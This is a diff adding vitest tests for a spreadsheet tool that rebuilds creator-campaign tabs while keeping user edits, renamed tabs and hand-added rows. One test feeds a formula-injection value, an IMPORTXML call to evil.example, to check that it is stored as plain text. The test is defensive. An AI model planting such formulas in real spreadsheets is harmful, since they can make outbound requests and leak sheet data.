@@ -1,0 +1,73 @@
+// Rebuilding tabs keeps what people typed: edited cells, rows added by hand, their own columns, renamed tabs.
+import { describe, expect, it } from 'vitest';
+import { fixture, freshBundle, rowsByHeader } from '../support/bundle.ts';
+
+describe('building tabs twice', () => {
+  it('keeps every typed row, edited cells and a column a person added', () => {
+    const { workspace, bundle } = freshBundle();
+    bundle.run('buildTabs');
+    bundle.run('importCampaign', fixture('small-campaign.json'));
+    const header = workspace.inspect.values('Creators')[0];
+    const extra = header.length + 1;
+    const letter = String.fromCharCode(64 + extra);
+    workspace.inspect.setCell('Creators', `${letter}1`, 'Agency notes');
+    workspace.inspect.setCell('Creators', `${letter}3`, 'Great to work with');
+    workspace.inspect.setCell('Creators', 'G2', '500'); // cost of @nano edited by a person
+    workspace.inspect.setCell('Creators', 'A6', '@handtyped'); // a row added by hand
+    workspace.inspect.setCell('Creators', 'C6', '12K');
+
+    const before = workspace.inspect.values('Creators');
+    const result = bundle.run('buildTabs') as any;
+    const after = workspace.inspect.values('Creators');
+
+    expect(result.created).toEqual([]);
+    expect(after[0][extra - 1]).toBe('Agency notes');
+    expect(after[2][extra - 1]).toBe('Great to work with');
+    expect(after[1][6]).toBe(500);
+    expect(after[5][0]).toBe('@handtyped');
+    expect(after[5][2]).toBe('12K'); // never rewritten: the person typed it
+    for (let r = 0; r < 6; r++) expect(after[r].slice(0, 3)).toEqual(before[r].slice(0, 3));
+    expect(rowsByHeader(workspace, 'Creators').map((c) => c.Handle)).toEqual(['@nano', '@micro1', '@micro2', '@macro', '@handtyped']);
+    expect(result.rowsKept.Creators).toBe(5);
+  });
+
+  it('recomputes with the edited value and names the unreadable cell in checks', () => {
+    const { workspace, bundle } = freshBundle();
+    bundle.run('buildTabs');
+    bundle.run('importCampaign', fixture('small-campaign.json'));
+    workspace.inspect.setCell('Creators', 'G2', '800');
+    workspace.inspect.setCell('Creators', 'C3', 'lots');
+    const creators = rowsByHeader(workspace, 'Creators');
+    expect(creators[0].CPE).toBe(1); // 800 / 800
+    const { checks } = bundle.run('runChecks') as any;
+    expect(checks).toContainEqual(expect.objectContaining({ cell: 'Creators!C3', kind: 'unreadable-value' }));
+  });
+
+  it('finds a renamed tab instead of making a second one', () => {
+    const { workspace, bundle } = freshBundle();
+    bundle.run('buildTabs');
+    bundle.run('importCampaign', fixture('small-campaign.json'));
+    workspace.inspect.renameSheet('Creators', 'Creators (final)');
+    const result = bundle.run('buildTabs') as any;
+    expect(result.created).toEqual([]);
+    expect(workspace.inspect.sheetNames()).not.toContain('Creators');
+    workspace.inspect.setCell('Creators (final)', 'C3', 'lots');
+    const { checks } = bundle.run('runChecks') as any;
+    expect(checks).toContainEqual(expect.objectContaining({ cell: "'Creators (final)'!C3" }));
+  });
+
+  it('writes user text that looks like a formula as text', () => {
+    const { workspace, bundle } = freshBundle();
+    const file = fixture('small-campaign.json') as any;
+    file.creators[0].handle = '=IMPORTXML("http://evil.example","//a")';
+    file.creators[1].handle = '+SUM(1,2)';
+    file.issues[0].description = '@mention -5 things';
+    bundle.run('importCampaign', file);
+    const values = workspace.inspect.values('Creators');
+    const formulas = workspace.inspect.formulas('Creators');
+    expect(values[1][0]).toBe('=IMPORTXML("http://evil.example","//a")');
+    expect(formulas[1][0]).toBe('');
+    expect(values[2][0]).toBe('+SUM(1,2)');
+    expect(workspace.inspect.values('Issues')[1][1]).toBe('@mention -5 things');
+  });
+});
